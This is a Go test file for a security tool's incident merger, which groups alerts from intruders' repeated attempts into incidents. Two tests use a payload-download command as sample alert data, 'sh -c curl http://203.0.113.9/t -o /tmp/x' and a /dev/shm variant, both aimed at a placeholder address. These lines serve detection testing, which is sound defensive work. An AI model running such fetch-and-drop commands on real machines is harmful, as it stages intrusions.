package incident

import (
	"fmt"
	"testing"

	"baize/internal/alert"
)

func written(path string) alert.Entity {
	return alert.Entity{Type: alert.EntityFile, Value: "h1:" + path, Role: RoleWritten}
}

// TestACrowdDoesNotHideARetry: many others use the directory, and the command,
// between two rounds of one intruder.
func TestACrowdDoesNotHideARetry(t *testing.T) {
	round := func(i int) *alert.Alert {
		a := high(fmt.Sprintf("round-%d", i), fmt.Sprintf("W%d", i), written(fmt.Sprintf("/tmp/kept%d", i)))
		a.Service = "S"
		return a
	}
	m := newMerger()
	first := add(m, round(1))
	for i := range 3 * postings {
		other := high(fmt.Sprintf("other-%d", i), fmt.Sprintf("O%d", i), written(fmt.Sprintf("/tmp/kept%d", i)))
		other.Service = fmt.Sprintf("S%d", i)
		if add(m, other) == first {
			t.Fatal("a stranger joined")
		}
	}
	if got := add(m, round(2)); got != first {
		t.Fatalf("the retry is in %s, want %s", got, first)
	}
}

// TestOneLineageDoesNotHideARetry: one who uses the directory, and one who is of
// the service, under ever another address take the places of their own lineages.
func TestOneLineageDoesNotHideARetry(t *testing.T) {
	round := func(id, lineage string) *alert.Alert {
		a := high(id, lineage, written("/tmp/kept"))
		a.Service = "S"
		return a
	}
	m := newMerger()
	first := add(m, round("one", "A"))
	for i := range 3 * postings {
		address := alert.Entity{Type: alert.EntityIP, Value: fmt.Sprintf("203.0.113.%d", i), Role: "destination"}
		neighbour := high(fmt.Sprintf("neighbour-%d", i), "B", written(fmt.Sprintf("/tmp/kept%d", i)), address)
		colleague := high(fmt.Sprintf("colleague-%d", i), "C", alert.Entity{Type: alert.EntityDomain, Value: fmt.Sprintf("d%d.example", i)})
		colleague.Service = "S"
		if add(m, neighbour) == first || add(m, colleague) == first {
			t.Fatal("a stranger joined")
		}
	}
	if got := add(m, round("two", "D")); got != first {
		t.Fatalf("the retry is in %s, want %s", got, first)
	}
}

// TestFaintAlertsDoNotHideARetry: alerts that could not join take no room from
// those that can.
func TestFaintAlertsDoNotHideARetry(t *testing.T) {
	clues := []alert.Entity{
		{Type: alert.EntityIP, Value: "203.0.113.5", Role: RoleSource},
		{Type: alert.EntityCommand, Value: "sh -c curl http://203.0.113.9/t -o /tmp/x"},
	}
	m := newMerger()
	first := add(m, high("one", "A", clues...))
	for i := range 3 * postings {
		faint := high(fmt.Sprintf("faint-%d", i), fmt.Sprintf("F%d", i), clues...)
		faint.Rule.Level = "low"
		add(m, faint)
	}
	if got := add(m, high("two", "B", clues...)); got != first {
		t.Fatalf("the retry is in %q, want %s", got, first)
	}
}

// TestAFullIncidentReachesForNobody: an alert that belongs to it by lineage
// does not pull in another incident by weak reasons.
func TestAFullIncidentReachesForNobody(t *testing.T) {
	m := newMerger()
	full := add(m, high("seed", "A"))
	for i := range capAlerts {
		add(m, high(fmt.Sprintf("fill-%d", i), "A"))
	}
	victim := high("victim", "B", written("/tmp/x"))
	victim.Service = "S"
	apart := add(m, victim)
	bridge := high("bridge", "A", written("/tmp/y"))
	bridge.Service = "S"
	if got := add(m, bridge); got != full {
		t.Fatalf("the lineage's alert is in %s", got)
	}
	if got := m.IncidentOf("victim"); got != apart {
		t.Fatalf("the other incident became part of %s", got)
	}
}

// TestAServicesOwnCheckIsOneIncident: the same long command in a shell of its
// own each time is one thing that a service does; short ones, which every
// intruder types, say nothing.
func TestAServicesOwnCheckIsOneIncident(t *testing.T) {
	spawned := func(i int, service, command string) *alert.Alert {
		a := high(fmt.Sprint(service, command, i), fmt.Sprint(service, command, i), alert.Entity{Type: alert.EntityCommand, Value: command})
		a.Service = service
		return a
	}
	for command, want := range map[string]int{"/bin/sh -c df -h | tail -1": 2, "/bin/sh -c uname -a": 10} {
		m := newMerger()
		incidents := map[string]bool{}
		for i := range 5 {
			incidents[add(m, spawned(i, "S", command))] = true
			incidents[add(m, spawned(i, "T", command))] = true
		}
		if len(incidents) != want {
			t.Errorf("%s: %d incidents of two services, want %d", command, len(incidents), want)
		}
	}
}

// TestAnEchoTiesItsLineage: a repeat that would have joined ties whatever its
// lineage raises or writes; one that would not is counted and no more.
func TestAnEchoTiesItsLineage(t *testing.T) {
	command := alert.Entity{Type: alert.EntityCommand, Value: "sh -c curl http://203.0.113.9/t -o /dev/shm/x"}
	for name, c := range map[string]struct {
		service string
		tied    bool
	}{"the same service": {"service:1", true}, "another service": {"service:2", false}} {
		m := newMerger()
		first := high("first", "L1", command)
		first.Service = "service:1"
		id := add(m, first)
		repeat := high("repeat", "L2", command)
		repeat.Service = c.service
		now := start.UnixNano()
		if got := m.Echo(repeat, "first", Facts{Shell: true}, now); got != c.tied || m.Echoes("L2", "first", now) != c.tied {
			t.Fatalf("%s: echo %v", name, got)
		}
		m.Flow("", "L2", "L3", "h1:/opt/x", now)
		if got := add(m, high("next", "L2")); (got == id) != c.tied {
			t.Errorf("%s: the next alert is in %q, the first in %q", name, got, id)
		}
		if got := add(m, high("ran its file", "L3")); (got == id) != c.tied {
			t.Errorf("%s: who ran its file is in %q, the first in %q", name, got, id)
		}
	}
	m := newMerger()
	if m.Echo(high("repeat", "L2"), "nobody", Facts{}, 0) || m.Known("nobody") {
		t.Error("an alert that is not known was repeated")
	}
}
